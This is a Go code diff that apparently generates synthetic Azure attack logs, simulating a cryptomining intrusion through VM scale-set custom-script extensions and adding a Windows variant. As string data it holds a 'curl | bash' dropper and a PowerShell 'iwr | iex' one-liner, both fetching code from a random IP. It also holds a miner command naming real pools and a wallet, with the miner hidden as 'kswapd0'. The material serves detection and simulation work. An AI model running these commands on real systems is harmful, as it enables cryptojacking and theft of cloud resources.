@@ -33,21 +33,35 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	pool := pick(g.r, []string{"gulf.moneroocean.stream", "pool.supportxmr.com", "xmr-eu1.nanopool.org", "pool.hashvault.pro"})
 	// Over TLS on 443: in a flow log, a connection like any other.
 	ep := endpoint{host: pool, port: 443, ip: poolEndpoints[pool][0].ip}
-	script := "curl -fsSL http://" + fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250)) + "/i.sh | bash"
+	dropper := fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250))
+	script, miner := customScript("curl -fsSL http://"+dropper+"/i.sh | bash"), "/var/tmp/.cache/kswapd0"
+	// A third build Windows machines (windows.go), the miner dropped by a
+	// PowerShell one-liner.
+	windows := g.drawWindows()
+	if windows {
+		a.OS = OSWindows
+		script = windowsScript("powershell -ExecutionPolicy Unrestricted -NoProfile -Command \"iwr -UseBasicParsing http://" + dropper + "/i.ps1 | iex\"")
+		miner = pick(g.win, windowsMiners.renamed)
+	}
+	scriptType := script["properties"].(map[string]any)["type"].(string)
 	now, resolved := at, false
 	for i, loc := range regions {
 		rid := t.rg(fmt.Sprintf("batch-%s", loc)) + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/" + strings.ToUpper(fmt.Sprintf("render-%d", i))
 		net := g.attackNetwork(now, a.Start, sp, "batch-"+loc, fmt.Sprintf("render-%d", i), loc)
-		end := g.arm(now, sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", rid,
-			armOpts{Body: vmssBody(loc, size, 25+g.r.IntN(15), "Spot", []any{customScript(script)}), Loc: loc, Accept: true})
-		g.arm(end.Add(30*time.Second), sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/EXTENSIONS/WRITE", rid+"/EXTENSIONS/CUSTOMSCRIPT",
-			armOpts{Body: map[string]any{"location": loc, "properties": customScript(script)["properties"]}, Loc: loc, Accept: true})
+		body := vmssBody(loc, size, 25+g.r.IntN(15), "Spot", []any{script})
+		if windows {
+			body = windowsBody(body, "render")
+		}
+		end := g.arm(now, sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", rid, armOpts{Body: body, Loc: loc, Accept: true})
+		g.arm(end.Add(30*time.Second), sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/EXTENSIONS/WRITE", rid+"/EXTENSIONS/"+strings.ToUpper(scriptType),
+			armOpts{Body: map[string]any{"location": loc, "properties": script["properties"]}, Loc: loc, Accept: true})
 		a.Resources = append(a.Resources, strings.ToLower(rid))
 		host := fmt.Sprintf("render-%d%06d", i, g.r.IntN(30))
+		g.windows[host] = windows
 		up := end.Add(3*time.Minute + g.jitter(3*time.Minute))
 		src := fmt.Sprintf("10.%d.1.%d", 50+i, 4+g.r.IntN(30))
 		resolved = g.lookup(up, net, src, pool+".") || resolved
-		g.attackerExec(up.Add(time.Second), host, 3100+g.r.IntN(500), 1, 0, []string{"/var/tmp/.cache/kswapd0", "-o", pool + ":443", "-u",
+		g.attackerExec(up.Add(time.Second), host, 3100+g.r.IntN(500), 1, 0, []string{miner, "-o", pool + ":443", "-u",
 			"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--tls", "--cpu-priority", "5", "--donate-level", "0", "-B"})
 		g.minerAlert(&a, up.Add(time.Second), rid, host)
 		if i == 0 {
